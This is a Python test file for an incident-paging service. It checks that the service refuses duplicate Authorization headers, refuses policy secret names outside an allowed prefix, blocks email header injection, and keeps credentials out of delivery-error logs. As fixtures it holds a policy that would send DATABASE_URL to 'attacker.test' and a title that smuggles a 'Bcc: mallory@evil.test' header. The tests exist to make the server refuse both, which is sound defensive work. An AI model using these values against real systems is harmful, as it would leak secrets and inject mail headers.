"""Issue 12 §6 over HTTP and with real servers: two `Authorization` headers refused on every
path (a real uvicorn, whose parser keeps both), `*_env` names outside the prefix refused by
`PUT /v1/policy`, and deliveries: a title with line breaks mailed on one subject line, a
message that cannot be rendered paging the next contact method at once, and a failure
recorded without the URL's credentials or the answer's body."""

from __future__ import annotations

import http.client
import json
import threading
import time
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
import uvicorn

from rungs.bootstrap import build
from rungs.engine import Engine as Service
from rungs.policy import PolicyError
from rungs.time.instant import parse_instant
from tests.conftest import api_token
from tests.integration.test_ingest import POLICY, _pd
from tests.integration.test_notify import (
    PEOPLE,
    Sink,
    Smtp,
    _secrets,
    deliver,
    entries,
    free_port,
    open_case,
    outbox,
    policy_yaml,
    sink,
    smtp,
    start,
)

# test_notify's fixtures, asked for by name below (`_secrets` is autouse: the channels' secrets)
FIXTURES = (_secrets, sink, smtp, start)

# a real server --------------------------------------------------------------------------------


class Served:
    """The app under a real uvicorn on 127.0.0.1, on a thread of this process."""

    def __init__(self, app: Any) -> None:
        self.port = free_port()
        config = uvicorn.Config(
            app, host="127.0.0.1", port=self.port, log_level="warning", lifespan="off"
        )
        self.server = uvicorn.Server(config)
        self.thread = threading.Thread(target=self.server.run, daemon=True)
        self.thread.start()
        deadline = time.monotonic() + 20
        while not self.server.started:
            assert time.monotonic() < deadline and self.thread.is_alive(), "uvicorn did not start"
            time.sleep(0.02)

    def request(
        self, method: str, path: str, headers: list[tuple[str, str]], body: bytes = b""
    ) -> tuple[int, Any]:
        """One request with these headers exactly (repeated names kept), its status and JSON."""
        conn = http.client.HTTPConnection("127.0.0.1", self.port, timeout=10)
        try:
            conn.putrequest(method, path)
            for name, value in headers:
                conn.putheader(name, value)
            conn.putheader("Content-Length", str(len(body)))
            conn.endheaders(body)
            answer = conn.getresponse()
            raw = answer.read()
        finally:
            conn.close()
        try:
            return answer.status, json.loads(raw)
        except ValueError:
            return answer.status, raw

    def close(self) -> None:
        self.server.should_exit = True
        self.thread.join(timeout=10)


@pytest.fixture
def serve(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> Iterator[Callable[[bool], tuple[Service, Served]]]:
    """`serve(file_managed)`: `rungs serve --policy FILE`, or (the file's version stored by a
    first start) `rungs serve` without one, whose policy `PUT /v1/policy` changes."""
    monkeypatch.setenv("RUNGS_ALLOW_VIRTUAL_CLOCK", "1")
    monkeypatch.delenv("RUNGS_SECRET_PREFIX", raising=False)
    policy = tmp_path / "policy.yaml"
    policy.write_text(POLICY, encoding="utf-8")
    running: list[tuple[Service, Served]] = []

    def start(file_managed: bool) -> tuple[Service, Served]:
        def built(policy_file: Path | None) -> tuple[Service, Any]:
            return build(
                db_url=f"sqlite:///{tmp_path / 'rungs.db'}",
                policy_file=policy_file,
                virtual_start=parse_instant("2026-11-24T08:00:00Z"),
            )

        if not file_managed:
            first, _ = built(policy)
            first.stop()
            first.db.dispose()
        service, app = built(policy if file_managed else None)
        running.append((service, Served(app)))
        return running[-1]

    yield start
    for service, s in running:
        s.close()
        service.stop()
        service.db.dispose()


# two Authorization headers --------------------------------------------------------------------


def test_two_authorization_headers_are_refused_on_every_path(
    serve: Callable[[bool], tuple[Service, Served]],
) -> None:
    service, s = serve(True)
    admin = f"Bearer {api_token(service.db, 'admin')}"
    viewer = f"Bearer {api_token(service.db, 'viewer')}"
    json_type = ("Content-Type", "application/json")
    case = json.dumps({"customer": "acme", "title": "disk full"}).encode()
    enqueue = json.dumps(_pd()).encode()
    # one header: each works as before (the fast lane opens a case)
    assert s.request("POST", "/v1/cases", [("Authorization", admin), json_type], case)[0] == 201
    assert s.request("GET", "/v1/cases", [("Authorization", viewer)])[0] == 200
    assert s.request("POST", "/v2/enqueue", [json_type], enqueue)[0] == 202
    before = s.request("GET", "/v1/cases", [("Authorization", admin)])[1]

    twice = [("Authorization", viewer), ("Authorization", admin)]
    for method, path, body, extra in (
        ("POST", "/v1/cases", case, [json_type]),  # the fast lane's happy path
        ("POST", "/v1/cases?x=1", case, [json_type]),  # the same route through FastAPI
        ("GET", "/v1/cases", b"", []),
        ("PUT", "/v1/policy", POLICY.encode(), [("Content-Type", "application/yaml")]),
        ("POST", "/v2/enqueue", enqueue, [json_type]),  # no token needed there: still refused
        ("GET", "/healthz", b"", []),
        ("GET", "/v1/no-such-route", b"", []),
        ("GET", "/a/not-a-link", b"", []),
    ):
        status, answer = s.request(method, path, [*twice, *extra], body)
        assert status == 400, (method, path, status, answer)
        assert answer == {
            "detail": "the request has more than one Authorization header: send one"
        }, (method, path)
    # the same token twice is two headers too
    status, _ = s.request("POST", "/v1/cases", [("Authorization", admin)] * 2 + [json_type], case)
    assert status == 400
    assert s.request("GET", "/v1/cases", [("Authorization", admin)])[1] == before, "none opened"


# *_env names ---------------------------------------------------------------------------------


def test_put_policy_refuses_a_variable_outside_the_prefix(
    serve: Callable[[bool], tuple[Service, Served]], monkeypatch: pytest.MonkeyPatch
) -> None:
    service, s = serve(False)  # database-managed: PUT stores a new version
    admin = [("Authorization", f"Bearer {api_token(service.db, 'admin')}")]
    yaml = [("Content-Type", "application/yaml")]
    steal = POLICY + (
        "channels:\n"
        '  sms: {url: "https://attacker.test/{account}", account_env: DATABASE_URL,\n'
        '        token_env: RUNGS_SMS_TOKEN, sender: "+4930000000"}\n'
    )
    line = POLICY.count("\n") + 2
    status, answer = s.request("PUT", "/v1/policy", [*admin, *yaml], steal.encode())
    assert status == 422, answer
    assert answer["detail"].startswith(f"PUT /v1/policy:{line}:")
    assert "DATABASE_URL is not a variable a policy may name" in answer["detail"]
    assert [e["line"] for e in answer["errors"] if e["severity"] == "error"] == [line]
    named = steal.replace("DATABASE_URL", "RUNGS_SMS_ACCOUNT")
    assert s.request("PUT", "/v1/policy", [*admin, *yaml], named.encode())[0] == 200
    # the deployment's prefix, as the server reads it
    monkeypatch.setenv("RUNGS_SECRET_PREFIX", "ACME_")
    assert s.request("PUT", "/v1/policy", [*admin, *yaml], named.encode())[0] == 422
    acme = steal.replace("DATABASE_URL", "ACME_SMS_ACCOUNT").replace("RUNGS_SMS", "ACME_SMS")
    assert s.request("PUT", "/v1/policy", [*admin, *yaml], acme.encode())[0] == 200


def test_serve_checks_an_unchanged_policy_file_against_the_prefix(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "policy.yaml"
    path.write_text(POLICY + "channels:\n  webhook: {secret_env: ACME_HOOK}\n", "utf-8")
    db = f"sqlite:///{tmp_path / 'rungs.db'}"
    monkeypatch.setenv("RUNGS_SECRET_PREFIX", "ACME_")
    service, _ = build(db_url=db, policy_file=path)
    service.stop()
    service.db.dispose()
    monkeypatch.delenv("RUNGS_SECRET_PREFIX")  # deployed again with the default prefix
    refused = "ACME_HOOK is not a variable a policy may name"
    with pytest.raises(PolicyError) as err:  # --strict: exit, as CI pipelines want
        build(db_url=db, policy_file=path, strict=True)
    assert refused in str(err.value)
    # otherwise paging goes on with the stored version, and /healthz says why (issue 12 §4)
    service, _ = build(db_url=db, policy_file=path)
    try:
        assert refused in (service.views.policy_file_error() or "")
    finally:
        service.stop()
        service.db.dispose()


# deliveries -----------------------------------------------------------------------------------


def test_a_title_with_line_breaks_is_mailed_on_one_subject_line(
    start: Callable[..., Service], smtp: Smtp
) -> None:
    service = start(policy_yaml(smtp_port=smtp.port, people=PEOPLE))
    cid = open_case(service, title="Checkout\r\nBcc: mallory@evil.test\nfails")
    deliver(service)
    (mail,) = smtp.box.to("ann@acme.test")
    subject = str(mail["Subject"]).strip()  # a long subject is folded: one line, unfolded
    assert subject == f"[Rungs] P2 {cid} level 1: Checkout Bcc: mallory@evil.test fails (Acme Corp)"
    assert mail["Bcc"] is None
    assert [e["to"] for e in entries(service, cid, "delivered")] == ["ann"]
    assert not entries(service, cid, "delivery_failed")
    assert {r.status for r in outbox(service)} == {"sent"}


def test_a_message_that_cannot_be_rendered_pages_the_next_method_at_once(
    start: Callable[..., Service], smtp: Smtp, sink: Sink, tmp_path: Path
) -> None:
    (tmp_path / "templates").mkdir()
    (tmp_path / "templates" / "email.txt").write_text("{{ item.level // 0 }}", encoding="utf-8")
    people = """\
  - id: ann
    contacts: {email: ann@acme.test, sms: "+491701111111"}
    notify: [{via: email}]
  - id: bob
    contacts: {email: bob@acme.test}
"""
    service = start(policy_yaml(smtp_port=smtp.port, sink=sink, people=people))  # 5 attempts
    cid = open_case(service)
    deliver(service)  # no time passes: no retry could have happened
    (failed,) = entries(service, cid, "delivery_failed")
    assert failed["permanent"] and failed["channel"] == "email"
    assert failed["reason"] == (
        "the message could not be built: ZeroDivisionError: integer division or modulo by zero"
    )
    pages = [(e["channel"], e["reason"]) for e in entries(service, cid, "notified")]
    assert pages == [("email", "opened"), ("sms", "fallback from email")]
    assert len(sink.at("/2010-04-01/")) == 1 and not smtp.box.messages
    rows = {r.key: r for r in outbox(service)}
    assert rows[f"{cid}:n1"].status == "dead" and rows[f"{cid}:n1"].attempts == 1


class Leaky:
    """An HTTP server answering 500 with a body that must not reach the timeline."""

    BODY = b"Traceback: password=hunter3 at db.internal:5432"

    def __init__(self) -> None:
        body = self.BODY

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def do_POST(self) -> None:
                self.rfile.read(int(self.headers.get("content-length") or 0))
                self.send_response(500)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, args=(0.05,), daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def test_a_delivery_error_keeps_no_credentials_or_response_body(
    start: Callable[..., Service], smtp: Smtp
) -> None:
    leaky = Leaky()
    try:
        url = f"http://rungs:hunter2@127.0.0.1:{leaky.port}/hooks/T0/SECRETPATH?token=abc"
        people = f"""\
  - id: ann
    contacts: {{webhook: "{url}"}}
    notify: [{{via: webhook}}]
  - id: bob
    contacts: {{email: bob@acme.test}}
"""
        service = start(policy_yaml(smtp_port=smtp.port, people=people))
        cid = open_case(service)
        deliver(service)
        (failed,) = entries(service, cid, "delivery_failed")
        assert failed["reason"] == "HTTP 500 Internal Server Error"
        assert not failed["permanent"]
        (row,) = [r for r in outbox(service) if r.key == f"{cid}:n1"]
        assert row.last_error == "HTTP 500 Internal Server Error"
        timeline = json.dumps(entries(service, cid))
        for secret in ("hunter2", "hunter3", "SECRETPATH", "token=abc", "Traceback"):
            assert secret not in timeline, secret
    finally:
        leaky.close()
